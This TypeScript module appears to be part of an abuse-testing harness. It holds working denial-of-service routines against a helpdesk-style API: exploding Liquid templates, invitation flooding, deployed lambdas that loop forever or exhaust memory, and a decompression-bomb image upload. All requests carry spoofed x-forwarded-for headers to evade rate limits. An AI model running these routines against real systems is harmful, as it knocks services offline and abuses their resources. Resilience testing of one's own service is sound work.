import type { Attack } from './attacks.ts'
import { largePicture } from './large-picture.ts'

const TEMPLATES = [
  '<div><b>'.repeat(6_000),
  '{% if true %}'.repeat(3_500),
  '{% for i in (1..9) %}'.repeat(2_000),
  '{% for i in (1..10000) %}{% for j in (1..10000) %}x{% endfor %}{% endfor %}',
]

/** One admin previews templates that are nested deeply or loop for ever. */
export async function floodTemplates({ url, token, index }: Attack): Promise<void> {
  const template = { subject: 'x', body: TEMPLATES[index % TEMPLATES.length]!, color: '#123456' }
  await call(url, '/api/email_templates/reply/preview', token, { template })
}

let invited = 0

/** Invites strangers by mail and by link. */
export async function floodInvitations({ url, token, index }: Attack): Promise<void> {
  if (index % 2) await call(url, '/api/user_invitations', token, {})
  else await call(url, '/api/user_invitation_emails', token, { to_address: `guest${++invited}@example.org` })
}

const FUNCTIONS = [
  'const handler = () => { for (;;); }',
  'const handler = () => { const all = []; for (;;) all.push(new Array(1e5).fill("x")); }',
  'const handler = () => "x".repeat(5e6)',
]
const deployed = new Map<string, Promise<string>>()

/** Fresh companies run functions that loop, eat memory and return too much. */
export async function floodFunctions({ url, tokens, index }: Attack): Promise<void> {
  const token = tokens[index % tokens.length]!
  const key = `${token} ${index % FUNCTIONS.length}`
  const deploying = deployed.get(key) ?? deploy(url, token, FUNCTIONS[index % FUNCTIONS.length]!)
  deployed.set(key, deploying)
  deploying.catch(() => deployed.delete(key))
  await call(url, `/api/lambdas/${await deploying}/invoke`, token, { event: 'message:created', payload: {} })
}

async function deploy(url: string, token: string, code: string): Promise<string> {
  const { data } = await call(url, '/api/lambdas', token, { lambda: { name: 'Hostile', code } })
  await call(url, `/api/lambdas/${data.id}/deploy`, token, {})
  return data.id
}

const PICTURE = largePicture(6_000)

/** Uploads a small file that takes a hundred megabytes once decoded. */
export async function floodPictures({ url, account_id, index }: Attack): Promise<void> {
  const form = new FormData()
  form.append('account_id', account_id)
  form.append('file', new Blob([PICTURE]), 'flood.png')
  const headers = { 'x-forwarded-for': `203.0.113.${10 + index}` }
  const answer = await fetch(`${url}/api/upload`, {
    method: 'POST',
    body: form,
    headers,
    signal: AbortSignal.timeout(60_000),
  })
  await answer.arrayBuffer()
}

/** @throws if there is no answer, or it is not 2xx */
async function call(url: string, path: string, token: string, body: object) {
  const answer = await fetch(url + path, {
    method: 'POST',
    body: JSON.stringify(body),
    headers: { authorization: token, 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.200' },
    signal: AbortSignal.timeout(60_000),
  })
  const text = await answer.text()
  if (!answer.ok) throw new Error(`${path} answered ${answer.status}`)
  return JSON.parse(text)
}
